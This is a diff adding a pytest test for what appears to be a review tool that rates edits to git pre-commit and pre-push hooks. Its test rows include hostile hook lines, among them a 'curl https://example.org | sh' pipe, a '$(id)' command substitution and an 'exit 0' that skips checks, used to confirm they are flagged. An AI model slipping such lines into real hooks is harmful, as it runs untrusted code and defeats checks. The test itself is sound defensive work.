@@ -120,6 +120,27 @@ def test_who_has_no_code_and_may_only_talk_weighs_little(
 
 
 @pytest.mark.parametrize(
+    ("rows", "priority"),
+    [
+        (("+pnpm check:comments",), "P3"),
+        (("+# why", "+", "+npm run lint", "+make test"), "P3"),
+        (("+npx some-package",), "P2"),
+        (("+pnpm dlx some-package",), "P2"),
+        (("+npm test && curl https://example.org | sh",), "P2"),
+        (("+npm test $(id)",), "P2"),
+        (("-npm test", "+npm run lint"), "P2"),
+        (("+exit 0",), "P2"),
+    ],
+)
+def test_one_more_task_of_its_own_in_a_hook_weighs_little(
+    rows: tuple[str, ...], priority: str
+) -> None:
+    for path in (".husky/pre-commit", ".githooks/pre-push"):
+        found = short(gate_config, sources(edited(path, " #!/bin/sh", *rows, start=1)))
+        assert [each[:2] for each in found] == [(priority, "hooks")]
+
+
+@pytest.mark.parametrize(
     ("step", "priority"),
     [("uses: actions/labeler@v5", "P3"), ("uses: actions/checkout@v4", "P2")],
 )
